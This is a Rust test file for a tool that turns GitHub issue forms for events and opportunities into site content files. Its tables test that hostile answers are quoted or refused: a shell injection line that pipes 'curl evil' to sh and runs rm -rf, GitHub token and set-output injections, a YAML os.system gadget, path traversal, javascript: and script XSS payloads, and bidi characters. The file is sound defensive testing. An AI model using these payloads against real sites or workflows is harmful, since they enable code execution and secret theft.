//! The issue forms: what a workflow makes of them, also of hostile ones.

use crate::command_line::written;
use crate::support::{Checkout, RELEASE, files_below, text};
use publisher::issue_form::question::{InputType, Question};
use publisher::issue_form::{FORMS, IssueForm, Outcome, read};
use publisher::new_entry::kinds::{EVENT, OPPORTUNITY};
use publisher::source::node::{Node, Value};
use publisher::source::yaml::{YamlOptions, parse as parse_yaml};
use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;

fn event_form() -> &'static IssueForm {
    IssueForm::of(&EVENT).unwrap()
}

/// The answers of a form that is filled in well.
const MEETUP: [(&str, &str); 17] = [
    ("What is the event called?", "Pair night"),
    ("What kind of event is it?", "Meetup"),
    ("What is it about, in one or two sentences?", "We pair up and write Python."),
    ("On which day does it start?", "2024-07-05"),
    ("At what time does it start?", "18:00"),
    ("Is the time still open?", "No"),
    ("In which time zone is that?", "Africa/Accra"),
    ("On which day does it end?", "_No response_"),
    ("At what time does it end?", "19:30"),
    ("Does it take place again?", "Every week"),
    ("Until which day does it take place again?", "2024-12-20"),
    ("Is it online?", "In a city"),
    ("In which building or room is it?", "Mall, 2nd floor"),
    ("In which city is it?", "Accra"),
    ("In which country is it?", "Ghana"),
    ("Where can people join or register?", "https://example.org/pairs"),
    ("May we publish this?", "- [x] Yes. As far as I know it is true, and everybody who is named agrees."),
];
const TEXT: &str = "What else should people know?";

/// Returns a form as GitHub writes it, with other answers to some questions.
pub fn form(others: &[(&str, &str)]) -> String {
    let last = [(TEXT, "Bring a laptop.")];
    let answers = MEETUP.into_iter().chain(last).map(|(label, answer)| {
        let answer = others.iter().find(|(other, _)| *other == label).map_or(answer, |(_, answer)| *answer);
        format!("### {label}\n\n{answer}")
    });
    answers.collect::<Vec<_>>().join("\n\n")
}

/// Returns what became of a form, as the text of the file or as the messages.
fn outcome(checkout: &Checkout, form: &[u8]) -> Result<(String, String), String> {
    outcome_of(checkout, event_form(), form)
}

fn outcome_of(checkout: &Checkout, kind: &'static IssueForm, form: &[u8]) -> Result<(String, String), String> {
    let issue = checkout.root().join("target/issue");
    checkout.write("target/issue", form);
    match read(checkout.root(), kind, &issue, RELEASE).unwrap() {
        Outcome::Created(created) => {
            let path = created.file.to_str().unwrap().replace('\\', "/");
            Ok((path, fs::read_to_string(checkout.root().join(&created.file)).unwrap()))
        }
        Outcome::Refused(problems) => Err(problems.iter().map(|problem| format!("{problem}\n")).collect()),
    }
}

#[test]
fn a_form_becomes_the_file_of_an_event() {
    let checkout = Checkout::fixture_site();
    let (path, written) = outcome(&checkout, form(&[]).as_bytes()).unwrap();
    assert_eq!(path, "content/en/events/2024-06-01-pair-night.md");
    assert_eq!(
        written.lines().collect::<Vec<_>>(),
        [
            "---",
            "title: 'Pair night'",
            "start: 2024-07-05T18:00",
            "time_zone: Africa/Accra",
            "end: 2024-07-05T19:30",
            "repeats: weekly",
            "until: 2024-12-20",
            "place: { venue: 'Mall, 2nd floor', city: Accra, country: GH }",
            "kind: meetup",
            "summary: 'We pair up and write Python.'",
            "link: https://example.org/pairs",
            "---",
            "",
            "Bring a laptop.",
        ]
    );
    assert_eq!(checkout.report(), "");
}

#[test]
fn a_form_without_optional_answers_becomes_a_file() {
    let checkout = Checkout::fixture_site();
    let none = "_No response_";
    let others = [
        ("At what time does it start?", none),
        ("Is the time still open?", "None"),
        ("In which time zone is that?", none),
        ("At what time does it end?", none),
        ("Does it take place again?", none),
        ("Until which day does it take place again?", none),
        ("Is it online?", "Online"),
        ("In which building or room is it?", none),
        ("In which city is it?", none),
        ("In which country is it?", none),
        ("Where can people join or register?", none),
        (TEXT, none),
    ];
    let (_, written) = outcome(&checkout, form(&others).replace('\n', "\r\n").as_bytes()).unwrap();
    assert!(written.contains("\nstart: 2024-07-05\n") && written.contains("\nplace: online\n"), "{written}");
    assert!(written.ends_with("---\n") && !written.contains('\r'), "{written}");
    assert_eq!(checkout.report(), "");
}

/// What became of a hostile form.
enum Became<'a> {
    /// It is refused with a message that contains these words.
    Refused(&'a str),
    /// It is a file of this name that contains this line, and the check says no more than warnings.
    File(&'a str, &'a str),
}
use Became::{File, Refused};

const NONE: &str = "_No response_";
const TITLE: &str = "What is the event called?";
const SUMMARY: &str = "What is it about, in one or two sentences?";
const CITY: &str = "In which city is it?";
const LINK: &str = "Where can people join or register?";

#[test]
#[expect(clippy::too_many_lines, reason = "a table")]
fn hostile_answers_are_values_or_are_refused() {
    let long = "a".repeat(100_000);
    // GitHub counts characters, of which each has four bytes here.
    let wide = "𠀀".repeat(20_000);
    let rows: &[(&str, &str, Became<'_>)] = &[
        // Shell syntax.
        (TITLE, "$(touch /tmp/owned)", File("touch-tmp-owned", "title: '$(touch /tmp/owned)'")),
        (
            TITLE,
            "`id`; rm -rf ~ && curl evil | sh",
            File("id-rm-rf-curl-evil-sh", "title: '`id`; rm -rf ~ && curl evil | sh'"),
        ),
        (TITLE, "a'; echo b #", File("a-echo-b", "title: 'a''; echo b #'")),
        (TITLE, "${{ secrets.GITHUB_TOKEN }}", File("secrets-github-token", "title: '${{ secrets.GITHUB_TOKEN }}'")),
        (
            TITLE,
            "::set-output name=path::/etc/passwd",
            File("set-output-name-path-etc-passwd", "title: '::set-output name=path::/etc/passwd'"),
        ),
        (SUMMARY, "--help", File("pair-night", "summary: '--help'")),
        // YAML.
        (TITLE, "a: b", File("a-b", "title: 'a: b'")),
        (TITLE, "[a, b]", File("a-b", "title: '[a, b]'")),
        (TITLE, "{a: b}", File("a-b", "title: '{a: b}'")),
        (
            TITLE,
            "!!python/object/apply:os.system [id]",
            File("python-object-apply-os-system-id", "title: '!!python/object/apply:os.system [id]'"),
        ),
        (TITLE, "&anchor *alias", File("anchor-alias", "title: '&anchor *alias'")),
        (TITLE, "| block", File("block", "title: '| block'")),
        (TITLE, "null", File("null", "title: 'null'")),
        (TITLE, "'single' \"double\" \\x41", File("single-double-x41", "title: '''single'' \"double\" \\x41'")),
        (TITLE, "A # comment", File("a-comment", "title: 'A # comment'")),
        (
            CITY,
            "Accra, country: XX }",
            File("pair-night", "place: { venue: 'Mall, 2nd floor', city: 'Accra, country: XX }', country: GH }"),
        ),
        // More lines than one: the lines become one value.
        (TITLE, "One\n---\ndraft: false", File("one-draft-false", "title: 'One --- draft: false'")),
        (TITLE, "One\r---\raliases: [/]", File("one-aliases", "title: 'One --- aliases: [/]'")),
        (SUMMARY, "One\n\n---\n\n# Own text", File("pair-night", "summary: 'One --- # Own text'")),
        (TITLE, "---", Refused("“What is the event called?”: use at least one letter or one digit")),
        // The text may have such lines.
        (TEXT, "One.\n\n---\n\nTwo.", File("pair-night", "Two.")),
        (TEXT, "---\ntitle: Other\n---", Refused("“What else should people know?”: ")),
        // Links and HTML.
        (
            LINK,
            "javascript:alert(1)",
            Refused("“Where can people join or register?”: `javascript:alert(1)` is not a complete web address"),
        ),
        (LINK, "data:text/html,<script>", Refused("“Where can people join or register?”: ")),
        (LINK, "//evil.example", Refused("“Where can people join or register?”: ")),
        (TEXT, "[here](javascript:alert(1))", Refused("“What else should people know?”: ")),
        (TEXT, "[here](JaVaScRiPt&colon;alert(1))", Refused("“What else should people know?”: ")),
        (TEXT, "[here][1]\n\n[1]: javascript:alert(1)", Refused("“What else should people know?”: ")),
        (TEXT, "<javascript:alert(1)>", Refused("“What else should people know?”: ")),
        (TEXT, "![x](https://evil.example/pixel.png)", Refused("“What else should people know?”: ")),
        (TEXT, "<script>alert(1)</script>", Refused("“What else should people know?”: ")),
        (TEXT, "Words <img src=x onerror=alert(1)> words", Refused("“What else should people know?”: ")),
        // Readers do not see a comment, but the person who reviews the file does.
        (TEXT, "<!-- a comment -->", File("pair-night", "<!-- a comment -->")),
        (TITLE, "<b>Bold</b><!-- x -->", File("b-bold-b-x", "title: '<b>Bold</b><!-- x -->'")),
        (TEXT, "::panel", Refused("“What else should people know?”: ")),
        (TEXT, "{% include evil %}", Refused("“What else should people know?”: ")),
        (TEXT, "<<<<<<< ours\na\n=======\nb\n>>>>>>> theirs", Refused("“What else should people know?”: ")),
        (TEXT, "```\nnever closed", File("pair-night", "never closed")),
        // Lengths.
        (TEXT, &long, Refused("The form has ")),
        (TEXT, &wide, File("pair-night", &wide)),
        (
            TEXT,
            &long[..30_000],
            Refused("“What else should people know?”: the answer has 30000 characters. Use at most 20000."),
        ),
        (TITLE, &long[..121], Refused("“What is the event called?”: the answer has 121 characters. Use at most 120.")),
        (
            LINK,
            &long[..501],
            Refused("“Where can people join or register?”: the answer has 501 characters. Use at most 500."),
        ),
        // Characters that nobody sees.
        (
            TITLE,
            "Safe\u{202e}gnp.exe",
            Refused("“What is the event called?”: an invisible character here (U+202E) changes the direction"),
        ),
        (TITLE, "Open \u{2067}isolate", File("open-isolate", "title: 'Open \u{2067}isolate'")),
        (
            TITLE,
            "لقاء \u{2067}isolate",
            Refused("“What is the event called?”: an invisible character here (U+2067) changes the direction"),
        ),
        (
            TEXT,
            "Line\u{202e}reversed",
            Refused("“What else should people know?”: an invisible character here (U+202E)"),
        ),
        (
            TITLE,
            "Nu\u{0}ll",
            Refused("“What is the event called?”: there is a character here that cannot be shown (U+0000)"),
        ),
        (
            TEXT,
            "Bell\u{7}",
            Refused("“What else should people know?”: there is a character here that cannot be shown (U+0007)"),
        ),
        (SUMMARY, "Lost \u{fffd}", Refused("“What is it about, in one or two sentences?”: a character was lost here")),
        (TITLE, "Zero\u{200b}width", File("zero-width", "title: 'Zero\u{200b}width'")),
        // Names of files.
        (
            TITLE,
            "../../../.github/workflows/evil.yml",
            File("github-workflows-evil-yml", "title: '../../../.github/workflows/evil.yml'"),
        ),
        (TITLE, "/etc/passwd", File("etc-passwd", "title: /etc/passwd")),
        (TITLE, "..\\..\\windows", File("windows", "title: '..\\..\\windows'")),
        (TITLE, ".", Refused("“What is the event called?”: use at least one letter or one digit")),
        (TITLE, "❤❤", Refused("“What is the event called?”: use at least one letter or one digit")),
        (
            TITLE,
            "Pair evening",
            Refused(
                "“What is the event called?”: there is already one of this name, in content/en/events/2024-05-17-pair-evening.md",
            ),
        ),
        (
            TITLE,
            "Archive",
            Refused(
                "“What is the event called?”: `archive` cannot be part of a web address.\n    What to do: choose another title.\n",
            ),
        ),
        (
            TITLE,
            "Con",
            Refused("“What is the event called?”: Windows cannot store a file or a folder with the name `con`."),
        ),
        (TITLE, "COM1", Refused("with the name `com1`. Choose another title.")),
        (TITLE, "Confetti", File("confetti", "title: Confetti")),
        (TITLE, "لقاء بايثون", File("lq-bythwn", "title: 'لقاء بايثون'")),
        (TITLE, "פגישת פייתון", File("pgysht-pyytvn", "title: 'פגישת פייתון'")),
        (TITLE, "Ọjọ́ kẹ́rin", File("ojo-kerin", "title: 'Ọjọ́ kẹ́rin'")),
        // Headings that look like questions.
        (
            TITLE,
            "Pair night\n\n### Is it online?\n\nOnline",
            Refused("“Is it online?” is there twice. Keep one of them, with its answer."),
        ),
        (
            TITLE,
            "Pair night\n\n### Approved by\n\nA maintainer",
            Refused("“Approved by” is not a question of the form. Remove the line"),
        ),
        (TEXT, "### Is it online?\n\nOnline", Refused("“What else should people know?”: this heading skips a level.")),
        (TEXT, "## Questions\n\n### Is it online?\n\nOnline", File("pair-night", "### Is it online?")),
        (TEXT, "```\n### Is it online?\n```", File("pair-night", "### Is it online?")),
        (
            TEXT,
            "## Questions\n\n### What else should people know?\n\nMore",
            File("pair-night", "### What else should people know?"),
        ),
        (TEXT, "# A heading of the page", Refused("“What else should people know?”: ")),
        // Values that are not among the options.
        (
            "What kind of event is it?",
            "Party",
            Refused("“What kind of event is it?”: choose one of “Meetup”, “Conference”"),
        ),
        (
            "What kind of event is it?",
            "meetup",
            Refused("“What kind of event is it?”: choose one of “Meetup”, “Conference”"),
        ),
        ("Does it take place again?", "Every week\nevil: true", Refused("“Does it take place again?”: choose one of ")),
        (
            "May we publish this?",
            "- [ ] Yes. As far as I know it is true, and everybody who is named agrees.",
            Refused("“May we publish this?” has no answer."),
        ),
        ("May we publish this?", "- [x] No.", Refused("“May we publish this?” has no answer.")),
        (
            "On which day does it start?",
            "next Friday",
            Refused(
                "“On which day does it start?” and “At what time does it start?”: `next FridayT18:00` is not a day",
            ),
        ),
        ("On which day does it start?", "5 July 2024", Refused("What to do: write `2024-07-05T18:00`.")),
        (
            "In which time zone is that?",
            "GMT+0",
            Refused("“In which time zone is that?”: there is no time zone `GMT+0`"),
        ),
        // A question has no full stop.
        ("In which time zone is that?", "Africa/Acra", Refused("What to do: did you mean `Africa/Accra`?\n")),
        ("In which time zone is that?", "_No response_", Refused("“In which time zone is that?”: ")),
        (
            "In which country is it?",
            "U.S.A.",
            File("pair-night", "place: { venue: 'Mall, 2nd floor', city: Accra, country: US }"),
        ),
        (
            "In which country is it?",
            "Atlantis",
            Refused(
                "“In which country is it?”: there is no country `Atlantis`. Write its name in English, or its two letters",
            ),
        ),
        (
            "In which country is it?",
            "Congo",
            Refused("“In which country is it?”: there is no country `Congo`. Did you mean CD (Congo - Kinshasa) or CG"),
        ),
        ("In which country is it?", "Nigera", Refused("Did you mean NE (Niger) or NG (Nigeria)?\n")),
        // The day of the form is 2024-06-01. An event of yesterday may not have ended.
        (
            "Until which day does it take place again?",
            "2024-05-30",
            Refused("“Until which day does it take place again?”: 2024-05-30 is in the past."),
        ),
        ("In which country is it?", "_No response_", Refused("“In which country is it?” has no answer.")),
        (
            "Is it online?",
            "Online",
            Refused("“In which city is it?” has an answer, but “Is it online?” rules it out. Change one of them."),
        ),
        (
            "Does it take place again?",
            "No",
            Refused("“Until which day does it take place again?”: `until` is only for an event that repeats"),
        ),
        (
            SUMMARY,
            "_No response_",
            Refused("“What is it about, in one or two sentences?” has no answer. Write one below the line"),
        ),
    ];
    let mut unexpected = Vec::new();
    for (label, answer, became) in rows {
        let checkout = Checkout::fixture_site();
        let before = files_below(checkout.root());
        let found = outcome(&checkout, form(&[(label, answer)]).as_bytes());
        let is_expected = match (became, &found) {
            (File(slug, line), Ok((path, written))) => {
                *path == format!("content/en/events/2024-06-01-{slug}.md")
                    && written.lines().any(|found| found == *line)
                    && !checkout.report().contains("error")
            }
            (Refused(expected), Err(messages)) => {
                let mut after = files_below(checkout.root());
                after.remove("target/issue");
                messages.contains(expected) && after == before
            }
            _ => false,
        };
        if !is_expected {
            unexpected.push(format!("{}: {found:?}", answer.chars().take(60).collect::<String>()));
        }
    }
    assert!(unexpected.is_empty(), "{}", unexpected.join("\n\n"));
}

#[test]
fn hostile_forms_are_refused() {
    let whole = form(&[]);
    let without = |label: &str| {
        let parts: Vec<&str> = whole.split("### ").filter(|part| !part.starts_with(label)).collect();
        parts.join("### ")
    };
    let rows: Vec<(Vec<u8>, &str)> = vec![
        (Vec::new(), "“What is the event called?” has no answer."),
        (b"Just words".to_vec(), "There is text before the first question."),
        (format!("<!-- hidden -->\n{whole}").into_bytes(), "There is text before the first question."),
        (
            without("What is the event called?").into_bytes(),
            "“What is the event called?” has no answer. Write one below the line `### What is the event called?`.",
        ),
        (without("May we publish").into_bytes(), "“May we publish this?” has no answer."),
        (whole.replace("### Is it online?", "## Is it online?").into_bytes(), "“Is it online?” has no answer."),
        (b"\xff\xfe### \0".to_vec(), "The form has characters that cannot be read."),
        ([b'#'; 70_000].to_vec(), "The form has 70000 characters, and at most 65536 are read."),
        (format!("### {}\n\n{whole}", "x".repeat(5000)).into_bytes(), "xxx…” is not a question of the form."),
        // The answer to the last question takes all that follows.
        (format!("### {TEXT}\n\nText\n\n{whole}").into_bytes(), "“What is the event called?” has no answer."),
    ];
    for (form, expected) in rows {
        let checkout = Checkout::fixture_site();
        let messages = outcome(&checkout, &form).expect_err(expected);
        assert!(messages.contains(expected), "{expected}: {messages}");
        assert!(messages.len() < 6000, "{messages}");
    }
}

#[test]
fn a_heading_that_is_no_question_is_one_problem() {
    let messages = outcome(&Checkout::fixture_site(), format!("### Approved\n\nBy me\n\n{}", form(&[])).as_bytes());
    let messages = messages.unwrap_err();
    assert_eq!(messages.lines().count(), 1, "{messages}");
    assert!(messages.starts_with("“Approved” is not a question of the form."), "{messages}");
}

#[test]
fn an_event_of_the_past_is_refused() {
    let once = |start: &str, end: &str| {
        let answers = [
            ("On which day does it start?", start),
            ("On which day does it end?", end),
            ("Does it take place again?", NONE),
            ("Until which day does it take place again?", NONE),
        ];
        outcome(&Checkout::fixture_site(), form(&answers).as_bytes())
    };
    let messages = once("2023-07-05", NONE).unwrap_err();
    assert_eq!(
        messages,
        "“On which day does it start?”: 2023-07-05 is in the past. Only what is still to come can be proposed: check the \
         year, the month and the day.\n"
    );
    let messages = once("2024-05-20", "2024-05-30").unwrap_err();
    assert!(messages.starts_with("“On which day does it end?”: 2024-05-30 is in the past."), "{messages}");
    assert!(once("2024-05-20", "2024-05-31").is_ok(), "it has ended yesterday");
    assert!(once("2024-05-31", NONE).is_ok(), "it was yesterday");
    let repeats = [("On which day does it start?", "2023-07-05"), ("Until which day does it take place again?", NONE)];
    assert!(outcome(&Checkout::fixture_site(), form(&repeats).as_bytes()).is_ok(), "it takes place again");
}

#[test]
fn a_title_whose_address_is_an_old_one_of_another_page_is_refused() {
    let checkout = Checkout::fixture_site();
    let file = "content/en/news/2024-01-02-first.md";
    checkout.replace(file, "aliases: [/2024-01-02-first/]", "aliases: [/events/pair-night/]");
    let before = files_below(checkout.root());
    let output = run(&checkout, "event", &form(&[]));
    assert_eq!(output.status.code(), Some(3), "{:?}", written(&output));
    let report = files_below(&checkout.root().join("target/report"));
    assert!(text(&report, "message.md").contains("“What is the event called?”: an older page"), "{report:?}");
    assert_eq!(
        files_below(&checkout.root().join("content")).len(),
        before.keys().filter(|file| file.starts_with("content/")).count()
    );
}

#[test]
fn the_report_of_a_form_is_short_enough_for_github() {
    let limit = 60_000;
    let rows = [
        (TEXT, "<b> ".repeat(500), "refused"),
        (TEXT, format!("[x](javascript:{})\n\n", "a".repeat(900)).repeat(20), "refused"),
        (TEXT, "a\n---\n\n".repeat(400), "created"),
        (TITLE, format!("Pair night\n\n{}", "### Other\n\n".repeat(3000)), "refused"),
    ];
    for (label, answer, expected) in rows {
        let checkout = Checkout::fixture_site();
        run(&checkout, "event", &form(&[(label, &answer)]));
        let report = files_below(&checkout.root().join("target/report"));
        assert_eq!(text(&report, "outcome"), expected, "{}", text(&report, "message.md"));
        let message = text(&report, "message.md");
        assert!(message.chars().count() < limit, "{} characters", message.chars().count());
        let (_, more) = message.rsplit_once("\n    and ").map_or(("", ""), |found| found);
        assert!(expected == "refused" && answer.contains("javascript") || more.contains(" more\n"), "{message}");
    }
}

#[test]
fn nothing_of_an_earlier_form_stays_in_a_report() {
    let checkout = Checkout::fixture_site();
    // The file of another program stays.
    checkout.write("target/report/log", b"");
    let files = || files_below(&checkout.root().join("target/report")).into_keys().collect::<Vec<_>>();
    run(&checkout, "event", &form(&[]));
    assert_eq!(files(), ["entry.md", "log", "message.md", "outcome", "path"]);
    run(&checkout, "event", "Just words");
    assert_eq!(files(), ["log", "message.md", "outcome"]);
    // A form that cannot be handled has no outcome.
    fs::remove_file(checkout.root().join("content/site.toml")).unwrap();
    run(&checkout, "event", &form(&[]));
    assert_eq!(files(), ["log"]);
}

fn run(checkout: &Checkout, kind: &str, form: &str) -> std::process::Output {
    checkout.write("target/issue", form.as_bytes());
    let mut command = Command::new(env!("CARGO_BIN_EXE_content"));
    command.args(["new", kind, "--from-issue", "target/issue", "--report", "target/report", "--today", "2024-06-01"]);
    command.current_dir(checkout.root()).output().unwrap()
}

#[test]
fn a_workflow_learns_the_outcome_without_parsing_prose() {
    let checkout = Checkout::fixture_site();
    let output = run(&checkout, "event", &form(&[]));
    assert_eq!(output.status.code(), Some(0), "{:?}", written(&output));
    let report = files_below(&checkout.root().join("target/report"));
    assert_eq!(text(&report, "outcome"), "created");
    assert_eq!(text(&report, "path"), "content/en/events/2024-06-01-pair-night.md");
    assert_eq!(report["entry.md"], fs::read(checkout.root().join(text(&report, "path"))).unwrap());
    assert_eq!(text(&report, "message.md"), "The check found no problems.\n");

    let checkout = Checkout::fixture_site();
    let hostile = "@everyone `x`](javascript:1) <img src=x> closes #1\n\n### Approved\n\n```\nx";
    let output = run(&checkout, "event", &form(&[("What kind of event is it?", "Party"), (TITLE, hostile)]));
    assert_eq!(output.status.code(), Some(3), "{:?}", written(&output));
    let report = files_below(&checkout.root().join("target/report"));
    assert_eq!(report.keys().collect::<Vec<_>>(), ["message.md", "outcome"]);
    assert_eq!(text(&report, "outcome"), "refused");
    let message = text(&report, "message.md");
    // GitHub shows lines that begin with four spaces after an empty line as they are.
    let (_, problems) = message.split_once("\n\n").unwrap();
    let (problems, _) = problems.split_once("\n\n").unwrap();
    assert!(problems.lines().all(|line| line.starts_with("    ")), "{message}");
    assert!(problems.contains("“Approved” is not a question of the form."), "{message}");

    let checkout = Checkout::fixture_site();
    let output = run(&checkout, "event", &form(&[(TITLE, "**Bold** @everyone closes #1")]));
    assert_eq!(output.status.code(), Some(0), "{:?}", written(&output));
    let report = files_below(&checkout.root().join("target/report"));
    let (first, warnings) = text(&report, "message.md").split_once("\n\n").unwrap();
    assert_eq!(first, "The check warns of this:");
    assert!(warnings.contains("Markdown and HTML do not work in `title`"), "{warnings}");
    assert!(warnings.lines().all(|line| line.starts_with("    ")), "{warnings}");
}

#[test]
fn a_form_excludes_the_other_options() {
    let checkout = Checkout::fixture_site();
    for option in [&["--title", "A"][..], &["A"], &["--slug", "a"], &["--city", "Accra"], &["--language", "es"]] {
        let mut command = Command::new(env!("CARGO_BIN_EXE_content"));
        command.args(["new", "event", "--from-issue", "target/issue"]).args(option).current_dir(checkout.root());
        assert_eq!(command.output().unwrap().status.code(), Some(2), "{option:?}");
    }
}

/// Returns what became of a form for an opportunity.
fn opportunity(others: &[(&str, &str)]) -> Result<(String, String), String> {
    let form = IssueForm::of(&OPPORTUNITY).unwrap();
    let answers = form.questions.iter().map(|question| {
        let answer = match question.label {
            "What is on offer?" => "Travel: grants",
            "What kind of opportunity is it?" => "Call for speakers",
            SUMMARY => "It pays.",
            "What is the last day to apply?" => "2024-07-31",
            "In which time zone does that day end?" => "Anywhere on Earth",
            "In which part of the world is it open to people?" => "Latin America",
            "Can people do it from anywhere?" => "No",
            "May we publish this?" => "- [X] Yes. As far as I know it is true, and everybody who is named agrees.",
            _ => "_No response_",
        };
        let answer = others.iter().find(|(label, _)| *label == question.label).map_or(answer, |(_, answer)| *answer);
        format!("### {}\n\n{answer}\n\n", question.label)
    });
    let checkout = Checkout::fixture_site();
    let found = outcome_of(&checkout, form, answers.collect::<String>().as_bytes());
    assert!(!checkout.report().contains("error"), "{}", checkout.report());
    found
}

#[test]
fn a_form_becomes_the_file_of_an_opportunity() {
    let (path, written) = opportunity(&[]).unwrap();
    assert_eq!(path, "content/en/opportunities/travel-grants.md");
    assert_eq!(
        written.lines().collect::<Vec<_>>(),
        [
            "---",
            "title: 'Travel: grants'",
            "kind: call-for-speakers",
            "date: 2024-06-01",
            "deadline: 2024-07-31",
            "time_zone: anywhere-on-earth",
            "region: latin-america",
            "remote: false",
            "summary: 'It pays.'",
            "---",
        ]
    );
    let (_, written) =
        opportunity(&[(REGION, "One country"), (COUNTRY, "ghana"), (PAY, "US$500 #1: \"all\"")]).unwrap();
    assert!(written.contains("\nregion: GH\n") && written.contains("\npay: 'US$500 #1: \"all\"'\n"), "{written}");
}

#[test]
fn the_last_time_zone_has_many_names() {
    for words in
        ["anywhere on earth", "“anywhere on earth”", "\"Anywhere on Earth\".", "AoE", "aoe", "UTC-12", "UTC−12"]
    {
        let (_, written) = opportunity(&[("In which time zone does that day end?", words)]).expect(words);
        assert!(written.contains("\ntime_zone: anywhere-on-earth\n"), "{words}: {written}");
    }
}

#[test]
fn a_country_is_a_region() {
    for region in [NONE, "None", "One country"] {
        let (_, written) = opportunity(&[(REGION, region), (COUNTRY, "Ghana")]).expect(region);
        assert!(written.contains("\nregion: GH\n"), "{region}: {written}");
    }
    let (_, written) = opportunity(&[(REGION, NONE)]).unwrap();
    assert!(!written.contains("region"), "{written}");
}

const REGION: &str = "In which part of the world is it open to people?";
const COUNTRY: &str = "In which country is it open to people?";
const PAY: &str = "What does it pay?";

#[test]
fn hostile_answers_about_an_opportunity_are_refused() {
    let rows: &[(&[(&str, &str)], &str)] = &[
        (
            &[("Where can people apply?", "javascript:alert(1)")],
            "“Where can people apply?”: `javascript:alert(1)` is not a complete web address",
        ),
        (&[(TEXT, "[apply](javascript:alert(1))")], "“What else should people know?”: "),
        (
            &[("What is on offer?", "Loom grant")],
            "“What is on offer?”: there is already one of this name, in content/en/opportunities/loom-grant.md.",
        ),
        (&[("What is on offer?", "Grant\u{202e}x")], "“What is on offer?”: an invisible character here (U+202E)"),
        (
            &[("What is the last day to apply?", "soon")],
            "“What is the last day to apply?”: `deadline` cannot be `soon`",
        ),
        (
            &[("What is the last day to apply?", "_No response_")],
            "“In which time zone does that day end?”: `time_zone` needs a `deadline`",
        ),
        (&[("In which time zone does that day end?", "_No response_")], "“In which time zone does that day end?”: "),
        (
            &[("In which time zone does that day end?", "EST")],
            "“In which time zone does that day end?”: there is no time zone `EST`",
        ),
        (&[(REGION, "One country")], "“In which country is it open to people?” has no answer."),
        (
            &[(REGION, "One country"), (COUNTRY, "Atlantis")],
            "“In which country is it open to people?”: there is no country `Atlantis`",
        ),
        (
            &[(COUNTRY, "Ghana"), (REGION, "Africa")],
            "“In which country is it open to people?” has an answer, but “In which part of the world is it open to people?” rules \
             it out. Change one of them.",
        ),
        (
            &[(COUNTRY, "Atlantis"), (REGION, NONE)],
            "“In which country is it open to people?”: there is no country `Atlantis`",
        ),
        (
            &[("What is the last day to apply?", "2024-05-31")],
            "“What is the last day to apply?”: 2024-05-31 is in the past.",
        ),
        (
            &[("What is on offer?", "Nul")],
            "“What is on offer?”: Windows cannot store a file or a folder with the name `nul`.",
        ),
        (&[(REGION, "Mars")], "“In which part of the world is it open to people?”: choose one of “Worldwide”"),
    ];
    for (others, expected) in rows {
        let messages = opportunity(others).expect_err(expected);
        assert!(messages.contains(expected), "{others:?}: {messages}");
    }
}

fn repository() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../..")
}

fn yaml(file: &str) -> Node {
    let text = fs::read_to_string(repository().join(file)).unwrap();
    let options =
        YamlOptions { max_depth: 20, allows_repeated_keys: false, allows_properties: false, nulls: &["", "null"] };
    parse_yaml(&text, 1, options).unwrap()
}

fn string<'a>(node: &'a Node, path: &[&str]) -> &'a str {
    path.iter().try_fold(node, |node, key| node.get(key)).and_then(Node::as_str).unwrap_or_default()
}

#[test]
fn the_forms_ask_what_is_read() {
    for form in FORMS {
        let file = format!(".github/ISSUE_TEMPLATE/{}", form.file);
        let yaml = yaml(&file);
        let labels: Vec<&str> = yaml.get("labels").unwrap().items().filter_map(Node::as_str).collect();
        assert_eq!(labels, [form.label], "{file}");
        let fields = yaml.get("body").unwrap().items().filter(|field| string(field, &["type"]) != "markdown");
        let fields: Vec<&Node> = fields.collect();
        assert_eq!(fields.len(), form.questions.len(), "{file}");
        for (field, Question { label, input, is_required, .. }) in fields.into_iter().zip(form.questions) {
            assert_eq!(string(field, &["attributes", "label"]), *label, "{file}");
            let options = field.get("attributes").and_then(|attributes| attributes.get("options"));
            let options: Vec<&Node> = options.into_iter().flat_map(Node::items).collect();
            let kind = match input {
                InputType::Input(_) => "input",
                InputType::Textarea(_) => "textarea",
                InputType::Dropdown(expected) => {
                    let expected: Vec<&str> = expected.iter().map(|(option, _)| *option).collect();
                    assert_eq!(
                        options.iter().filter_map(|option| option.as_str()).collect::<Vec<_>>(),
                        expected,
                        "{file}"
                    );
                    "dropdown"
                }
                InputType::Checkboxes(words) => {
                    assert_eq!(options.iter().map(|option| string(option, &["label"])).collect::<Vec<_>>(), [*words]);
                    "checkboxes"
                }
            };
            assert_eq!(string(field, &["type"]), kind, "{label}");
            let required = match input {
                InputType::Checkboxes(_) => string(options[0], &["required"]),
                _ => string(field, &["validations", "required"]),
            };
            assert_eq!(required == "true", *is_required, "{label}");
            // A form in which GitHub would take a word for a boolean is not shown.
            let is_boolean = |node: &&Node| matches!(&node.value, Value::Scalar { string, is_plain: true } if ["Yes", "No"].contains(&string.as_str()));
            assert!(!options.iter().any(is_boolean), "{label}: put `Yes` and `No` in quotation marks");
        }
    }
}

#[test]
fn a_text_is_asked_for_last() {
    for form in FORMS {
        let (last, others) = form.questions.split_last().unwrap();
        assert!(matches!(last.input, InputType::Textarea(_)), "{}", form.file);
        assert!(others.iter().all(|question| !matches!(question.input, InputType::Textarea(_))), "{}", form.file);
        let keys: Vec<&str> = others.iter().flat_map(|question| question.keys).copied().collect();
        for key in keys {
            assert!(form.kind.key(key).is_some(), "{key}");
        }
    }
}

/// Returns the value of each key `run` in a workflow, and that of each `uses`.
fn collect<'a>(node: &'a Node, key: &str, found: &mut Vec<&'a str>) {
    match &node.value {
        Value::Table(entries) => {
            for (name, value) in entries {
                if name.name == key {
                    found.extend(value.as_str());
                }
                collect(value, key, found);
            }
        }
        Value::List(items) => items.iter().for_each(|item| collect(item, key, found)),
        Value::Null | Value::Scalar { .. } => {}
    }
}

#[test]
fn no_script_of_a_workflow_has_an_expression() {
    let folder = repository().join(".github/workflows");
    let mut scripts = 0;
    for entry in fs::read_dir(folder).unwrap() {
        let name = entry.unwrap().file_name().into_string().unwrap();
        let workflow = yaml(&format!(".github/workflows/{name}"));
        let mut run = Vec::new();
        collect(&workflow, "run", &mut run);
        for script in &run {
            assert!(!script.contains("${{"), "{name}: an expression becomes a part of the script: {script}");
        }
        scripts += run.len();
        let mut actions = Vec::new();
        collect(&workflow, "uses", &mut actions);
        for action in actions.into_iter().filter(|action| !action.starts_with("./")) {
            let commit = action.split_once('@').map_or("", |(_, commit)| commit);
